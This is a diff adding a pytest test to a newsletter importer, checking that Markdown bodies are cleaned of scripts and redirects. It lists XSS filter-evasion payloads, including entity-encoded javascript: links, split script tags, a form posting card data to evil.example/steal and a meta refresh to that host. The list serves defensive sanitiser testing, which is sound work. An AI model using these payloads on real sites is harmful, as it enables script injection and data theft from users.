@@ -9,6 +9,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import hashlib
+import html
 import http.server
 import io
 import json
@@ -1116,3 +1117,57 @@ def test_a_file_in_the_way_is_kept_as_it_is_and_no_move_suggested(
     result = run(newsletter.root, "import", str(substack_zip(tmp_path / "export.zip")))
     kept = next(line for line in result.output.splitlines() if line.startswith("kept:"))
     assert "move" not in kept and "kept as it is" in kept
+
+
+#: Markdown that tries to get a script or a redirect past the cleaning of a Markdown body.
+EVASIONS = (
+    "<scr<script>x</script>ipt>alert(1)</script>",
+    'Text <a href="jav&#x61;script:alert(1)">here</a>.',
+    "[x](<javascript:alert(1)>)",
+    "[y][ref]\n\n[ref]: javascript:alert(1)",
+    "![z](JaVa&#x09;ScRiPt:alert(1))",
+    "<JAVASCRIPT:alert(1)>",
+    '<form action="https://evil.example/steal"><input name="card"></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "Inline <scr<b>ipt>alert(1)</scr<b>ipt> tag.",
+    "> [q](jav&#x61;script:alert(1))",
+)
+
+
+def buttondown_markdown(path: Path, body: str) -> Path:
+    emails = [
+        {
+            "id": "1",
+            "subject": "Plain",
+            "publish_date": "2024-02-08 08:00:00+00:00",
+            "slug": "plain",
+            "status": "sent",
+        }
+    ]
+    return make_zip(
+        path,
+        {
+            "emails.json": json.dumps(emails),
+            "emails/plain.md": f"<!-- buttondown-editor-mode: plaintext -->\n{body}",
+        },
+    )
+
+
+@pytest.mark.parametrize("evasion", EVASIONS)
+def test_no_script_gets_through_a_markdown_body(
+    newsletter: Newsletter, tmp_path: Path, evasion: str
+) -> None:
+    body = f"Before, *kept*: [a link](https://example.org/).\n\n{evasion}\n\nAfter.\n"
+    result = run(newsletter.root, "import", str(buttondown_markdown(tmp_path / "b.zip", body)))
+    assert result.exit_code == 0, result.output
+    text = (newsletter.root / "issues/2024-02-08-plain.md").read_text(encoding="utf-8")
+    assert "Before, *kept*: [a link](https://example.org/)." in text and "After." in text
+    if "<b>" not in evasion:  # (that one's tags are all kept: <b> and text)
+        assert "script link (" in result.output or "unsafe HTML (" in result.output
+    decoded = " ".join(html.unescape(text).split()).lower().replace(" ", "")
+    for gone in ("<script", "javascript:", "<form", "<meta", "evil.example", "<input"):
+        assert gone not in decoded, text
+    built = run(newsletter.root, "build")
+    assert built.exit_code == 0, built.output
+    page = (newsletter.root / "site/plain/index.html").read_text(encoding="utf-8").lower()
+    assert "javascript:" not in page and "<form" not in page and "evil.example" not in page
